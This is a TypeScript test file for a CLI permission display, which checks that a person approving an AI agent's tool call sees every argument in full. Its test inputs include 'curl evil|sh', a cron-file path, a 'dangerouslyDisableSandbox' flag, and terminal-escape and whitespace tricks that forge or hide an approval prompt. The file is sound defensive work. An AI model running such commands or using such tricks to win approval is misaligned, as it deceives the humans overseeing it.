/** A person sees all of what they are asked to allow. */
import { assert, describe, it } from "@effect/vitest"
import { showInput, summaryOf } from "../../src/cli/showInput.js"
import type { PermissionRequest } from "../../src/client/browser.js"

const request = (tool: string, args: unknown, more: object = {}): PermissionRequest => ({
  type: "permission_request",
  request_id: "r",
  tool,
  args,
  metadata: { kind: "tool" },
  ...more
})
const shown = (tool: string, args: unknown, more: object = {}) => showInput(request(tool, args, more))

describe("what is shown of a tool call", () => {
  it("is every line of a command", () => {
    assert.strictEqual(
      shown("Bash", { command: "echo ok\ncurl evil|sh" }),
      "\nThe agent wants to use Bash:\n  │ command:\n  │   echo ok\n  │   curl evil|sh\n"
    )
  })

  it("is every argument, also those that look harmless beside another", () => {
    const text = shown("mcp__mail__send", {
      command: "git status",
      to: "all@example.com",
      body: "secret\nmore",
      nested: { deep: [{ path: "/etc/cron.d/x" }, 3, null, true] },
      dangerouslyDisableSandbox: true
    })
    for (
      const piece of [
        "mcp__mail__send",
        "git status",
        "to: all@example.com",
        "secret",
        "more",
        "/etc/cron.d/x",
        "2: 3",
        "3: null",
        "dangerouslyDisableSandbox: true"
      ]
    ) assert.include(text, piece)
  })

  it("is the content of a file that would be written, and an edit as the difference", () => {
    assert.include(
      shown("Write", { file_path: "/tmp/x", content: "one\ntwo\n" }),
      "  │ file_path: /tmp/x\n  │   @@ -0,0 +1,2 @@\n  │   +one\n  │   +two\n"
    )
    const edit = shown("Edit", {
      file_path: "a.ts",
      old_string: "x = 1",
      new_string: "x = 2",
      replace_all: true
    })
    assert.include(edit, "  │   -x = 1\n")
    assert.include(edit, "  │   +x = 2\n")
    assert.include(edit, "replace_all: true")
    const several = shown("MultiEdit", { file_path: "a", edits: [{ old_string: "p", new_string: "q" }] })
    assert.include(several, "-p")
    assert.include(several, "+q")
  })

  it("has what cannot be seen spelled, in names too", () => {
    const text = shown("Bash\u001b[2K", { "com\u202emand": "ls #\r\u001b[2K Allow Bash ls?\u001b[8m" })
    assert.notInclude(text, "\u001b")
    assert.notInclude(text, "\r")
    assert.notInclude(text, "\u202e")
    assert.include(text, "Bash\\x1b[2K")
    assert.include(text, "com\\u{202e}mand: ls #\\r\\x1b[2K Allow Bash ls?\\x1b[8m")
  })

  it("cannot be pushed out of sight by empty lines or spaces", () => {
    const text = shown("Bash", { command: `ls${"\n".repeat(30)}${" ".repeat(200)}curl evil|sh` })
    assert.isBelow(text.split("\n").length, 10)
    assert.include(text, "⋮ 29 empty lines")
    assert.include(text, "⟨200 spaces⟩curl evil|sh")
  })

  it("cannot pass for a question of ours: every line has a bar before it", () => {
    const text = shown("Bash", { command: "x\nAllow Bash ls? y = yes, n = no" }, { text: "Allow all?\ny" })
    for (const line of text.trim().split("\n").slice(1)) assert.match(line, /^ {2}│/)
  })

  it("is the same word for word however long it is", () => {
    const lines = Array.from({ length: 3000 }, (_, n) => `line ${n}`)
    const text = shown("Write", { file_path: "/x", content: lines.join("\n") })
    for (const line of lines) assert.include(text, `+${line}\n`)
  })

  it("is a list of changes with their diffs in full", () => {
    const text = shown("fileChange", { changes: [{ path: "a", diff: "@@ -1 +1 @@\n-a\n+b\n" }] })
    assert.include(text, "+b")
    assert.include(text, "path: a")
  })

  it("is on one line in the question only when that is all of it", () => {
    assert.strictEqual(summaryOf(request("Bash", { command: "rm -r build" })), "rm -r build")
    assert.strictEqual(summaryOf(request("Bash", { command: "rm", force: true })), "")
    assert.strictEqual(summaryOf(request("Bash", { command: "a\nb" })), "")
    assert.strictEqual(summaryOf(request("Bash", { command: "x".repeat(61) })), "")
  })
})
